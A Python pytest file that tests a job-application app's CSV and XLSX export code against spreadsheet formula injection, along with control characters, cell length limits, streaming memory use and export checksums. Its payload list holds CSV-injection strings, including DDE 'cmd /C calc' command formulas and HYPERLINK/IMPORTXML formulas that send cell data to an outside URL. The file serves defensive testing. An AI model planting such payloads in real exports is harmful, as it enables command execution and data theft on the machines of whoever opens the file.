"""What leaves as a table is text where it was text, whatever an applicant typed."""

import csv
import datetime as dt
import hashlib
import io
import time
import tracemalloc
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from careerpath.ui.export import (
    CELL_LIMIT,
    looks_like_formula,
    stream_csv,
    stream_xlsx,
    write_csv,
    write_xlsx,
)

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = [
    *[f"{start}1+1" for start in STARTS],
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "\t1+1",
    "\r1+1",
    "\n1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "+1-555-0100",
    "-1",
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "%0A-3+3+cmd|' /C calc'!D2",
    "\x1f=1+1",
    "\u3000=1+1",
]


def as_csv(rows, columns=("a", "b")):
    out = io.BytesIO()
    written = write_csv(columns, rows, out)
    return written, out.getvalue()


def csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_sheet(rows, columns=("a", "b")):
    out = io.BytesIO()
    written = write_xlsx(columns, rows, out)
    return written, openpyxl.load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_X1_formulas_become_text_in_csv(payload):
    _, data = as_csv([[payload, 1]])

    cell = csv_rows(data)[1][0]
    assert cell[0] == "'"


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_X1_formulas_become_text_in_xlsx(payload):
    _, sheet = as_sheet([[payload, 1]])

    cell = sheet["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.quotePrefix


def test_X1_a_formula_in_a_column_title_becomes_text():
    _, data = as_csv([], columns=["=1+1"])
    _, sheet = as_sheet([], columns=["=1+1"])

    assert csv_rows(data) == [["'=1+1"]]
    assert sheet["A1"].data_type != "f"


def test_X1_numbers_stay_numbers_and_phones_stay_phones():
    rows = [[-5, Decimal("-1.50")], ["+1 (555) 010-0199", 2.5]]

    _, data = as_csv(rows)
    _, sheet = as_sheet(rows)

    assert csv_rows(data)[1:] == [["-5", "-1.50"], ["+1 (555) 010-0199", "2.5"]]
    assert [[c.value for c in row] for row in sheet["A2:B3"]] == [
        [-5, -1.5],
        ["+1 (555) 010-0199", 2.5],
    ]


def test_ordinary_text_is_left_alone():
    words = ["O'Brien", "Łukasik", "Trần Thị Lan", "a=b", "1-2", "5%", "", "مرحبا"]

    assert [word for word in words if looks_like_formula(word)] == []


def test_X2_one_hostile_cell_does_not_stop_the_export():
    hostile = "a\x0bb\x00c\ud800d\uffffe"
    rows = [[hostile, 1], ["fine", 2]]

    counted, data = as_csv(rows)
    in_sheet, sheet = as_sheet(rows)

    assert csv_rows(data)[1] == ["a\ufffdb\ufffdc\ufffdd\ufffde", "1"]
    assert sheet["A2"].value == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert sheet["A3"].value == "fine"
    assert (counted.replaced, in_sheet.replaced) == (1, 1)


def test_X2_text_longer_than_a_cell_says_that_it_was_cut():
    written, sheet = as_sheet([["x" * 40_000, 1], ["\U0001f600" * 20_000, 2]])
    whole, data = as_csv([["x" * 40_000, 1]])

    assert written.cut == 2
    assert len(sheet["A2"].value) == CELL_LIMIT
    assert sheet["A2"].value.endswith("[cut: a spreadsheet cell holds 32,767 characters]")
    assert len(sheet["A3"].value.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert (len(csv_rows(data)[1][0]), whole.cut) == (40_000, 0)


def test_dates_booleans_and_nothing_have_one_meaning_each():
    rows = [
        [dt.date(2026, 11, 22), True],
        [dt.datetime(2026, 11, 22, 9, 30, tzinfo=dt.UTC), None],
        [dt.date(1850, 1, 1), float("nan")],
        [10**20, "_x0041_"],
    ]

    _, data = as_csv(rows)
    _, sheet = as_sheet(rows)

    assert csv_rows(data)[1:] == [
        ["2026-11-22", "yes"],
        ["2026-11-22T09:30:00+00:00", ""],
        ["1850-01-01", ""],
        ["100000000000000000000", "_x0041_"],
    ]
    assert sheet["A2"].value == dt.datetime(2026, 11, 22)  # noqa: DTZ001
    assert sheet["A3"].value == "2026-11-22T09:30:00+00:00"
    assert sheet["A5"].value == "100000000000000000000"


@pytest.mark.parametrize("stream", [stream_csv, stream_xlsx])
def test_X3_ten_thousand_rows_stream_with_a_quick_first_byte_and_little_memory(stream):
    drawn = 0

    def rows():
        nonlocal drawn
        for n in range(10_000):
            drawn += 1
            yield [n, "words " * 200, "more " * 100]

    tracemalloc.start()
    began = time.perf_counter()
    pieces = stream(["n", "a", "b"], rows())
    first = next(pieces)
    waited = time.perf_counter() - began
    drawn_at_first = drawn
    total = len(first) + sum(len(piece) for piece in pieces)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert drawn_at_first < 100
    assert waited < 1
    assert total > 0
    assert peak < 20_000_000
    assert drawn == 10_000


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_X4_the_figures_kept_about_an_export_match_the_file(write):
    out = io.BytesIO()

    written = write(["a"], [["x"], ["y"]], out)

    assert written.rows == 2
    assert written.size == len(out.getvalue())
    assert written.sha256 == hashlib.sha256(out.getvalue()).hexdigest()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_X2_any_text_goes_out_and_comes_back_as_text(rows):
    _, data = as_csv(rows)
    _, sheet = as_sheet(rows)

    back = csv_rows(data)[1:]
    assert len(back) == len(rows)
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in back for cell in row)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
